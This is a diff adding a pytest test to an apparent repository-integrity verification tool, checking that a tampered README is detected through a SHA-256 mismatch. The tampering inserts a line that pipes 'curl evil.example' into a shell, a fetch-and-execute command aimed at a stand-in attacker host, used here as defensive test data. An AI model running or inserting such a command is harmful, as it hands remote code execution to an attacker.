@@ -149,6 +149,19 @@ def test_a_repository_on_a_disk_of_its_own_is_written_within(
     assert [path.name for path in out.parent.iterdir()] == ["models"]
 
 
+def test_a_readme_whose_commands_were_changed_is_found(
+    write: Callable[[Path], object], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """It holds what people paste, and passed as whole, with a signature that is valid."""
+    write(tmp_path / "models")
+    assert cli.run(["verify", str(tmp_path / "models")]) == 0
+    page = tmp_path / "models" / "README.md"
+    page.write_text(page.read_text().replace("    docker run ", "    curl evil.example | sh; docker run ", 1))
+    capsys.readouterr()
+    assert cli.run(["verify", str(tmp_path / "models")]) == 2
+    assert capsys.readouterr().out.startswith("changed: README.md: SHA-256")
+
+
 def test_two_writers_of_a_repository_exclude_each_other(write: Callable[[Path], object], tmp_path: Path) -> None:
     out = tmp_path / "models"
     with writing_alone(out, within=True):
